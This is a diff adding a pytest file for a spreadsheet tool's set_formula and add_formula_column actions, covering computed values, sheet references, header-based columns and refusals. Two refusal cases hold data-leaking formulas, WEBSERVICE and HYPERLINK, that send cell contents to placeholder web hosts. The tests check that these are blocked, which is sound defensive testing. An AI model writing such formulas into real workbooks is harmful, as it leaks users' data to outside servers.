@@ -1,0 +1,102 @@
+"""set_formula and add_formula_column on real .xlsx files: formulas written, values computed, refusals clear."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from podium.apps.base import Change
+from podium.apps.spreadsheets import SpreadsheetsApplication
+from tests.apps.books import ORDERS, values, workbook
+from tests.apps.effects_check import call_checked, kinds
+
+
+async def test_formula_into_a_cell_comes_back_computed(sheets: SpreadsheetsApplication, root: Path) -> None:
+    workbook(root / "o.xlsx", {"Orders": ORDERS})
+    call = {"path": "o.xlsx", "cell": "F2", "formula": "=SUM(C2:C5)"}
+    assert kinds(sheets, "set_formula", call) == [Change.ADD]  # an empty cell: nothing is lost
+    result = await call_checked(sheets, root, "set_formula", call)
+    assert result.content == {"path": "o.xlsx", "sheet": "Orders", "cell": "F2", "formula": "=SUM(C2:C5)",
+                              "value": 11}
+    assert load_workbook(root / "o.xlsx")["Orders"]["F2"].value == "=SUM(C2:C5)"
+    again = await call_checked(sheets, root, "set_formula", call)
+    assert again.content["unchanged"] is True
+    over = {**call, "formula": "MAX(D2:D5)"}  # the leading "=" is supplied
+    assert kinds(sheets, "set_formula", over) == [Change.EDIT] and sheets.is_sensitive("set_formula", over)
+    assert (await call_checked(sheets, root, "set_formula", over)).content["value"] == 4
+
+
+async def test_a_formula_on_another_sheet_by_reference(sheets: SpreadsheetsApplication, root: Path) -> None:
+    workbook(root / "o.xlsx", {"Orders": ORDERS, "Summary": [["Units"]]})
+    result = await call_checked(sheets, root, "set_formula", {"path": "o.xlsx", "cell": "Summary!B1",
+                                                               "formula": "=SUM(Orders!C2:C5)"})
+    assert result.content["sheet"] == "Summary" and result.content["value"] == 11
+
+
+@pytest.mark.parametrize(("formula", "error"), [
+    ('=WEBSERVICE("http://example.com/?"&A1)', "WEBSERVICE, which is not allowed"),
+    ("=SUM(Nowhere!A1:A3)", "sheet 'Nowhere', which is not in the workbook (its sheets: Orders)"),
+    ("=SUM(Qty)", "'Qty', which is neither a cell range"),
+])
+async def test_refused_formulas_write_nothing(sheets: SpreadsheetsApplication, root: Path, formula: str,
+                                              error: str) -> None:
+    workbook(root / "o.xlsx", {"Orders": ORDERS})
+    result = await call_checked(sheets, root, "set_formula", {"path": "o.xlsx", "cell": "F1", "formula": formula})
+    assert error in result.error
+
+
+async def test_unknown_sheet_names_the_sheets(sheets: SpreadsheetsApplication, root: Path) -> None:
+    workbook(root / "o.xlsx", {"Orders": ORDERS})
+    result = await call_checked(sheets, root, "set_formula", {"path": "o.xlsx", "sheet": "Sales", "cell": "A1",
+                                                               "formula": "=1"})
+    assert "no sheet named 'Sales'; the sheets are ['Orders']" in result.error
+
+
+async def test_computed_column_by_header_names(sheets: SpreadsheetsApplication, root: Path) -> None:
+    workbook(root / "o.xlsx", {"Orders": [["Orders of May"], [], *ORDERS]})  # a title row above the table
+    call = {"path": "o.xlsx", "header": "Total", "formula": "=[Qty]*Price"}
+    result = await call_checked(sheets, root, "add_formula_column", call)
+    assert result.content == {"path": "o.xlsx", "sheet": "Orders", "column": "E", "header": "Total",
+                              "cells": "E4:E7", "first_formula": "=C4*D4", "values": [3, 12, 2.5, 10]}
+    rows = values(root / "o.xlsx", "Orders")
+    assert [row[4] for row in rows[2:]] == ["Total", "=C4*D4", "=C5*D5", "=C6*D6", "=C7*D7"]
+    assert (await call_checked(sheets, root, "add_formula_column", call)).content["unchanged"] is True
+
+
+async def test_computed_column_by_cells_fills_a_named_empty_column(sheets: SpreadsheetsApplication,
+                                                                  root: Path) -> None:
+    workbook(root / "o.xlsx", {"Orders": [[*ORDERS[0], "Amount"], *[[*row, None] for row in ORDERS[1:]]]})
+    call = {"path": "o.xlsx", "header": "amount", "formula": "=C2*D2"}
+    assert kinds(sheets, "add_formula_column", call) == [Change.ADD]  # its cells are empty
+    result = await call_checked(sheets, root, "add_formula_column", call)
+    assert result.content["column"] == "E" and result.content["values"] == [3, 12, 2.5, 10]
+    assert values(root / "o.xlsx", "Orders")[0] == ["Item", "Region", "Qty", "Price", "Amount"]
+    refill = {**call, "formula": "=C2*D2*2"}
+    assert kinds(sheets, "add_formula_column", refill) == [Change.EDIT]  # its formulas would be written over
+
+
+async def test_a_totals_row_gets_the_new_columns_sum(sheets: SpreadsheetsApplication, root: Path) -> None:
+    workbook(root / "o.xlsx", {"Orders": [*ORDERS, ["Total", None, "=SUM(C2:C5)", "=SUM(D2:D5)"]]})
+    result = await call_checked(sheets, root, "add_formula_column", {"path": "o.xlsx", "header": "Amount",
+                                                                      "formula": "=[Qty]*[Price]"})
+    assert result.content["cells"] == "E2:E5"
+    assert result.content["total"] == {"cell": "E6", "value": 27.5}
+    assert values(root / "o.xlsx", "Orders")[5] == ["Total", None, "=SUM(C2:C5)", "=SUM(D2:D5)", "=SUM(E2:E5)"]
+
+
+async def test_computed_column_refusals(sheets: SpreadsheetsApplication, root: Path) -> None:
+    workbook(root / "o.xlsx", {"Orders": ORDERS, "Empty": [], "Header": [["A", "B"]]})
+    unknown = await call_checked(sheets, root, "add_formula_column", {"path": "o.xlsx", "header": "T",
+                                                                       "formula": "=[Qty]*[Cost]"})
+    assert "no column 'Cost'; its columns are ['Item', 'Region', 'Qty', 'Price']" in unknown.error
+    empty = await call_checked(sheets, root, "add_formula_column", {"path": "o.xlsx", "sheet": "Empty",
+                                                                     "header": "T", "formula": "=A2"})
+    assert "sheet 'Empty' is empty" in empty.error
+    bare = await call_checked(sheets, root, "add_formula_column", {"path": "o.xlsx", "sheet": "Header",
+                                                                    "header": "T", "formula": "=A2"})
+    assert "no data rows" in bare.error
+    unsafe = await call_checked(sheets, root, "add_formula_column", {"path": "o.xlsx", "header": "T",
+                                                                      "formula": '=HYPERLINK("http://x?"&A2)'})
+    assert "HYPERLINK, which is not allowed" in unsafe.error
